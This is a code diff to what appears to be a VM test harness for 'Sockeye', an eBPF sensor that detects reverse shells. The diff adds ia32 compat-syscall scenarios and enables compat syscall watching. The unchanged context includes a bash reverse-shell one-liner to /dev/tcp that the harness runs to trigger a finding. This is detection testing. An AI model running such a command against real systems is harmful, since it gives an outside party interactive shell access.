@@ -21,6 +21,7 @@ import {
 const BEGIN = "===SOCKEYE-VM-RESULTS-BEGIN===";
 const END = "===SOCKEYE-VM-RESULTS-END===";
 const HELPER = "/usr/local/bin/sockhelper";
+const IA32_HELPER = "/usr/local/bin/ia32-syscalls";
 const BASH = "/bin/bash";
 // TCG is slow: give the reader thread time to deliver what the kernel already wrote.
 const SETTLE_MS = Number(process.env.SOCKEYE_VM_SETTLE_MS ?? 800);
@@ -116,7 +117,9 @@ async function main() {
   // The next candidate must stand on its own too: with the LSM program skipped, fentry.
   out.probeWithoutLsm = probe({ skipCandidates: ["lsm/socket_connect"] });
 
-  const sensor = await openSensor();
+  // With ia32 syscalls watched: the 6.1 verifier must take that program too, the cases below
+  // must not be reported twice (each expects exactly one finding), and the ia32 ones are seen.
+  const sensor = await openSensor({ compatSyscalls: true });
   out.programs = sensor.programs;
   out.features = sensor.features;
   out.lsm = readOr("/sys/kernel/security/lsm");
@@ -180,6 +183,10 @@ async function main() {
     "-c",
     `setsid bash -c 'bash -i >& /dev/tcp/${ip}/${p} 0>&1'; true`,
   ]);
+  // ia32 syscalls through int $0x80: the dup by the compat program; the connect by the LSM or
+  // fentry program, which see every connect (the compat program leaves connect to them).
+  await scenario("ia32-dup2-fd1", "TRC-101", (p) => [IA32_HELPER, "dup2", String(p)]);
+  await scenario("ia32-connect-fd0", "TRC-101", (p) => [IA32_HELPER, "connect", String(p)]);
   // Negatives: each must give no finding at all.
   await scenario("socket-onto-fd5", "none", (p) => [HELPER, "dup2", ip, String(p), "5"]);
   await scenario("file-onto-fd1", "none", () => [HELPER, "file-dup2", "/sockeye/package.json", "1"]);
